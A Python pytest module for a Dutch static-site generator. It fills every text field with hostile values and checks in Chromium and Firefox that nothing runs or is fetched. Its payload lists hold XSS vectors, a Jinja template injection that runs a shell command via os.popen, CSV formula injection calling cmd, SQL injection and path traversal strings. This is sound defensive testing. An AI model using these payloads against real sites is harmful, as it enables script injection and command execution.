"""Hostile values in every text field of every kind and list: refused by the type, or shown as the text that they are.

Each value is put into all fields at once and the pages are made in this process; then all values stand on one built
site, without its policy, and Chromium looks at it: nothing may run, nothing may be fetched.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from io import StringIO
from itertools import cycle, islice
from pathlib import Path
from typing import TypeVar

import feedparser
import pytest
import rispy
import vobject
import yaml
from icalendar import Calendar
from playwright.sync_api import Browser, Dialog, Page, expect
from pybtex.database import parse_string
from pydantic import TypeAdapter, ValidationError

from macros.export.linked import Linked
from macros.load import Centre, load
from macros.load.documents import Document
from macros.load.files import Loaded
from macros.load.references import invert
from macros.model.fields import Label, Prose, Sentence, Summary, Text
from macros.model.kinds import KINDS, AnyKind
from macros.model.lists import Chapter, Contact, Synonym
from macros.model.vocabularies import Word
from macros.model.walk import Field
from macros.outputs import Asset, Assets
from macros.outputs import Page as Output
from macros.publish.markdown import LICENCE, converter, first_line
from macros.render.renderer import Renderer, Told
from macros.render.shell import contents_list
from macros.site import outputs
from tests.site.test_safety import repository, run
from tests.support.browser import served
from tests.support.finished import Finished, attribute, parse
from tests.support.firefox import firefox
from tests.support.markdown import alive, links, read
from tests.support.repository import build, write
from tests.support.synthetic import Planter, item_of

PLAIN = "Gewone tekst"
BUILT = 18  # so many of the values, those of HTML first, stand on a site that Chromium looks at
SHOWN = {
    "script": "<script>kwaad()</script>",
    "script-with-a-slash": "</script><script src=https://kwaad.example/x.js></script>",
    "picture": "<img src=x onerror=kwaad()>",
    "drawing": "<svg/onload=kwaad()>",
    "double-quote": '" onmouseover="kwaad()" x="',
    "single-quote": "' autofocus onfocus='kwaad()' x='",
    "no-quote": "x onclick=kwaad()",
    "out-of-the-title": "</title></head><body onload=kwaad()>",
    "out-of-the-list": "</li></ul></section></main><form action=https://kwaad.example>",
    "out-of-a-comment": "--><img src=x onerror=kwaad()><!--",
    "character-data": "]]><img src=x onerror=kwaad()>",
    "style": "</style><style>@import 'https://kwaad.example'</style>",
    "frame": "<iframe srcdoc='<script>kwaad()</script>'></iframe>",
    "refresh": '0;url=https://kwaad.example" http-equiv="refresh',
    "entities": "&lt;img src=x onerror=kwaad()&gt; &#60;b&#62; &amp;amp;",
    "jinja": "{{ 7 * 191 }} {% raw %} {# kwaad #}",
    "jinja-code": "{{ cycler.__init__.__globals__.os.popen('echo kwaad > canary').read() }}",
    "markdown": "[klik](javascript:kwaad()) ![x](https://kwaad.example/p.png) `x` **x** # kop",
    "address-of-a-script": "javascript:kwaad()",
    "address": "https://kwaad.example/",
    "address-without-scheme": "//kwaad.example/x.js",
    "formula": '=HYPERLINK("https://kwaad.example";"klik")',
    "formula-of-a-command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "paths": "../../../../etc/kwaad",
    "windows-path": "..\\..\\kwaad.exe",
    "sql": "'; DROP TABLE kwaad; --",
    "prototype": "__proto__ constructor toString kwaad",
    "json": '"}],"kwaad":[{"x":"',
    "expression": "(a+)+$ [kwaad .*",
    "template-of-javascript": "${kwaad()} `kwaad`",
    "right-to-left": "\u05db\u05d5\u05d0 \u0643\u0648\u0627\u062f kwaad",
    "one-long-word": "kwaad" * 400,
    "many-words": "kwaad woord " * 160,
}
REFUSED = {
    "reversed": "kwaad \u202etxet",
    "no-width": "kw\u200baad",
    "slot": "\ue0000\ue001",
    "frame": "\ue002content\ue002",
    "stash": "\x02wzxhzdk:0\x03",
    "escape": "\x1b[31mkwaad",
    "nothing": "kwaad\x00",
    "next-line": "kwaad\x85kwaad",
    "separator": "kwaad\u2028kwaad",
    "surrogate": "kwaad\ud800",
    "not-a-sign": "kwaad\uffff",
    "tags": "kwaad\U000e0041",
    "zalgo": "k" + "\u0301\u0316" * 20 + "waad",
    "two-alphabets": "kw\u0430ad",
    "twins": "\u0441\u043e\u0441\u0430",
    "full-width": "\uff1cscript\uff1e",
    "mathematical": "\U0001d424\U0001d430\U0001d41a\U0001d41a\U0001d41d",
    "endless": "kwaad " * 20_000,
    "blank": " \t\n ",
}

M = TypeVar("M", Chapter, Synonym)
Shape = tuple[str, tuple[str, ...]]


@dataclass
class Hostile(Planter):
    """Puts one value into every text; refers to the records of the small repository."""

    value: str = PLAIN

    def _leaf(self, model: type, one: Field) -> tuple[object, str]:
        if isinstance(one.mark, Prose | Label):
            value = self.value[:220].strip() if one.name == "summary" else self.value
            return value, value
        try:
            return super()._leaf(model, one)
        except KeyError:  # a flag of a list
            return True, ""

    def _next(self, target: str) -> int:
        return 0


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Centre:
    return load(build(tmp_path_factory.mktemp("small")))


def filled(centre: Centre, value: str) -> Centre:
    """Return the small repository with a value in every text: a record more of each kind, all lists, all words."""
    catalogue = centre.catalogue
    words = {
        name: {id: replace(word, value=_relabelled(word.value, value)) for id, word in shelf.items()}
        for name, shelf in catalogue.vocabularies.items()
    }
    records = {
        code: {
            **catalogue.records[code],
            "kwaad": item_of(kind, "kwaad", Hostile(centre, value=value).fill(kind.model)),
        }
        for code, kind in KINDS.items()
    }
    changed = replace(
        catalogue,
        records=records,
        backlinks=invert(item for shelf in records.values() for item in shelf.values()),
        vocabularies=words,
        contacts={id: replace(one, value=_texts(one.value, value)) for id, one in catalogue.contacts.items()},
        course={"kwaad": _entry(Hostile(centre, value=value).fill(Chapter))},
        referral={"kwaad": _entry(Hostile(centre, value=value).fill(Chapter))},
        synonyms={"kwaad": _entry(Hostile(centre, value=value).fill(Synonym))},
    )
    return replace(centre, catalogue=changed)


def _relabelled(word: Word, value: str) -> Word:
    return word.model_copy(update={"label": value, "description": value})


def _texts(contact: Contact, value: str) -> Contact:
    return contact.model_copy(update=dict.fromkeys(("name", "purpose", "hours", "note"), value))


def _entry(value: M) -> Loaded[M]:
    return Loaded("kwaad", value, Document("data/x.yml", "", []))


def _read_feed(content: bytes) -> None:
    assert not feedparser.parse(content).bozo


def _read_table(content: bytes) -> None:
    head, *rows = csv.reader(StringIO(content.decode("utf-8-sig"), newline=""), strict=True)
    assert {len(row) for row in rows} <= {len(head)}
    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))] == []


CARD = {"VERSION", "UID", "FN", "N", "ORG", "X-ABSHOWAS", "TEL", "EMAIL", "URL", "NOTE", "REV", "SOURCE"}


def _read_card(content: bytes) -> None:
    (card,) = vobject.readComponents(content.decode(), validate=True)
    assert {line.name for line in card.lines()} <= CARD


def _read_words(content: bytes) -> None:
    pieces = read(content.decode())
    assert alive(pieces) == []
    assert [link for link in links(pieces) if not link.startswith("/")] == []  # all are of the site


# Those who read what is no page; each refuses what is damaged.
READERS: dict[str, Callable[[bytes], object]] = {
    "json": json.loads,
    "ics": Calendar.from_ical,
    "xml": _read_feed,
    "csv": _read_table,
    "vcf": _read_card,
    "bib": lambda content: parse_string(content.decode(), "bibtex"),
    "ris": lambda content: rispy.loads(content.decode()),
    "txt": _read_words,
}


def pages_of(centre: Centre) -> Iterator[Finished]:
    """Yield every page that is made from records, without the frame of the shell, and every redirect."""
    for output in outputs(centre, Renderer(centre, lambda path: f"https://change.example/{path}")):
        if isinstance(output, Assets):
            for path, content in output.files.items():
                READERS[path.rpartition(".")[2]](content)
            continue
        if isinstance(output, Asset):
            if output.path.endswith(".html"):
                yield parse(str(output.content), output.path)
            continue
        made = output.make(Told(output.make(None).html, (), "docs/x.md") if output.takes_story else None)
        yield parse(f"<body>{contents_list(made.contents)}{made.html}</body>", output.address)


def shapes(pages: list[Finished]) -> set[Shape]:
    """Return all sorts of elements, each with the names of its attributes."""
    return {(one.tag or "", tuple(sorted(one.attributes))) for page in pages for one in page.css("*")}


def addresses(pages: list[Finished]) -> set[str]:
    """Return where all links lead and all that is fetched, but for places on the page itself."""
    found = {attribute(one, name) for page in pages for name in ("href", "src") for one in page.css(f"[{name}]")}
    return {address for address in found if not address.startswith("#")}


@pytest.fixture(scope="module")
def plain(small: Centre) -> list[Finished]:
    """Make the pages with a harmless value: any other must give the same elements and the same links."""
    return list(pages_of(filled(small, PLAIN)))


@pytest.mark.parametrize("name", REFUSED)
def test_a_value_is_refused_by_every_text(name: str) -> None:
    for type_ in (Text, Sentence, Summary):
        with pytest.raises(ValidationError) as refusal:
            TypeAdapter(type_).validate_python(REFUSED[name])
        assert all(error["msg"] for error in refusal.value.errors(include_input=False))


@pytest.mark.parametrize("name", SHOWN)
def test_a_value_is_shown_as_text(name: str, small: Centre, plain: list[Finished]) -> None:
    value = SHOWN[name]
    pages = list(pages_of(filled(small, value)))
    assert shapes(pages) - shapes(plain) == set()
    assert addresses(pages) - addresses(plain) == set()
    first = read(first_line(value, "https://site.example/", "2026-11-22"))
    assert (alive(first), links(first)) == ([], {"https://site.example/", LICENCE.partition("(")[2].rstrip(")")})
    shown = {page.address: page for page in pages}
    for kind in KINDS.values():
        page = shown[kind.address("kwaad").partition("#")[0]]
        assert " ".join(value.split()) in page.text, kind.code
        words = read(converter()(page.css("body")[0].inner_html or ""))
        assert alive(words) == [], kind.code
        assert {link.removeprefix("./") for link in links(words) if not link.startswith("./#")} <= {
            link.partition("?")[0] if link.startswith("mailto:") else link for link in addresses([page])
        }, kind.code


@pytest.mark.parametrize("name", SHOWN)
def test_a_value_does_not_leave_the_linked_data(name: str, small: Centre) -> None:
    value = SHOWN[name].strip()
    centre = filled(small, value)
    made = [one for one in outputs(centre, Renderer(centre, str)) if isinstance(one, Output)]
    linked = Linked(value, "/", (value,), {one.address: one.title for one in made})
    opening, closing = '<script type="application/ld+json">', "</script>"
    for one in made:
        element = linked.page(one.address, one.reviewed, one.about())
        inside = element.removeprefix(opening).removesuffix(closing)
        assert len(inside) == len(element) - len(opening) - len(closing)
        assert not set("<>&\u2028\u2029") & set(inside)
        told = json.loads(inside)
        if one.address.endswith("/kwaad/"):
            assert told["name"] == value
            assert told["breadcrumb"]["itemListElement"][-1]["name"] == value


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory: pytest.TempPathFactory, small: Centre) -> Iterator[str]:
    """Build a site with a record of every kind for every value, as the preview does: without the policy."""
    folder = repository(tmp_path_factory.mktemp("values"), {})
    for name, value in islice(SHOWN.items(), BUILT):
        for code, kind in KINDS.items():
            record = Hostile(small, value=value, without=("aliases",)).fill(kind.model)
            content = yaml.safe_dump(record.model_dump(exclude_unset=True), allow_unicode=True)
            write(folder, f"data/{code}/kwaad-{name}.yml", content)
    done = run(folder, "mkdocs", "build", "--no-strict", "--quiet")
    assert done.returncode == 0, done.stdout
    assert not list(folder.rglob("canary"))
    with served(folder / "site") as address:
        yield address


@pytest.fixture
def hostile_page(hostile_server: str, browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """Open a page, and note all that values could bring about: a dialog, an error, a request to another."""
    context = browser.new_context(base_url=hostile_server, locale="nl-NL")
    page = context.new_page()
    found: list[str] = []

    def dialog(one: Dialog) -> None:
        found.append(f"dialog {one.message}")
        one.dismiss()

    page.on("dialog", dialog)
    page.on("pageerror", lambda error: found.append(f"error {error}"))
    page.on("request", lambda one: found.extend([one.url] if not one.url.startswith(f"{hostile_server}/") else []))
    page.add_init_script("window.kwaad = () => alert(1)")
    yield page, found
    context.close()


# What no page has of itself: the script of /zoeken/ is a file, the drawing of the ladder is ours.
NOTHING_ELSE = (
    "main :is(img, iframe, form form, object, embed, svg:not([role=img], [aria-hidden]), style), "
    "main script:not([type=module]), "
    "[onclick], [onerror], [onload], [onfocus], [onmouseover], [ontoggle]"
)


def test_nothing_of_a_value_comes_alive(hostile_page: tuple[Page, list[str]]) -> None:
    page, found = hostile_page
    for address in _sample():
        page.goto(f"/{address}", wait_until="load")
        assert page.locator("h1").count(), address
        assert page.locator(NOTHING_ELSE).count() == 0, address
        assert found == [], address


def test_the_search_shows_values_as_text(hostile_page: tuple[Page, list[str]]) -> None:
    page, found = hostile_page
    page.goto("/partners/")
    for typed in ("kwaad", "script", "onerror", "javascript", "__proto__", "<img src=x onerror=kwaad()>"):
        page.get_by_role("combobox", name="Zoek op deze site").fill(typed)
        expect(page.locator("#search-list [role=option]").first).to_be_visible()
        assert page.locator(f"#search-list :is({NOTHING_ELSE}, script)").count() == 0
    page.goto("/zoeken/?q=kwaad%20%3Cscript%3Ekwaad()%3C/script%3E")
    page.wait_for_selector("#search-results[data-ready]", state="attached")
    assert page.locator("#search-results > li").count() > 5
    assert "<script>kwaad()</script>" in page.locator("#search-results").inner_text()
    assert page.locator(NOTHING_ELSE).count() == 0
    assert found == []


ALARM = "() => { window.alarms = []; window.kwaad = window.alert = (one) => window.alarms.push(`${one}`) }"
# What a reader types in the box, and what then stands there: how many hits, and how many elements that should not.
TYPED = """(async () => {
  const until = async (what) => {
    for (let i = 0; i < 800 && !what(); i++) await new Promise((again) => setTimeout(again, 25))
    if (!what()) throw new Error(`never: ${what}`)
  }
  const field = document.querySelector("#search-field")
  await until(() => field.getAttribute("role") === "combobox")
  const list = document.querySelector("#search-list")
  list.replaceChildren()
  field.value = TEXT
  field.dispatchEvent(new Event("input", { bubbles: true }))
  await until(() => list.children.length)
  return document.querySelectorAll(`NOTHING, #search-list :is(NOTHING, script)`).length
})()"""


def test_nothing_of_a_value_comes_alive_in_firefox(hostile_server: str) -> None:
    with firefox() as driver:
        driver.before(ALARM)
        for address in (*_sample(), "zoeken/?q=%3Cimg%20src%3Dx%20onerror%3Dkwaad()%3E%20kwaad"):
            driver.go(f"{hostile_server}/{address}")
            strange = f"[...document.querySelectorAll({json.dumps(NOTHING_ELSE)})].map((one) => one.outerHTML)"
            seen = driver.run(f"[document.querySelectorAll('h1').length, {strange}, window.alarms]")
            assert seen == [1, [], []], address
        for typed in ("kwaad", "onerror", "<img src=x onerror=kwaad()>"):
            script = TYPED.replace("NOTHING", NOTHING_ELSE).replace("TEXT", json.dumps(typed))
            assert driver.run(script) == 0, typed
        assert driver.run("window.alarms") == []
        assert [url for url in driver.requests if not url.startswith((f"{hostile_server}/", "about:", "data:"))] == []
        assert len(driver.requests) > BUILT


def test_firefox_would_raise_the_alarm(tmp_path: Path) -> None:
    """The test above would see it: a page that calls the function, and asks another for a picture."""
    write(tmp_path, "index.html", "<h1>x</h1><img src=https://kwaad.example/x.png><img src=x onerror=kwaad()>")
    with served(tmp_path) as server, firefox() as driver:
        driver.before(ALARM)
        driver.go(f"{server}/")
        assert driver.run("window.alarms")
        assert "https://kwaad.example/x.png" in driver.requests


def _sample() -> list[str]:
    found = [kind.overview for kind in KINDS.values()]
    return found + [kind.address(f"kwaad-{name}") for kind, name in zip(cycle(_with_pages()), islice(SHOWN, BUILT))]


def _with_pages() -> list[AnyKind]:
    return [kind for kind in KINDS.values() if kind.own_page]
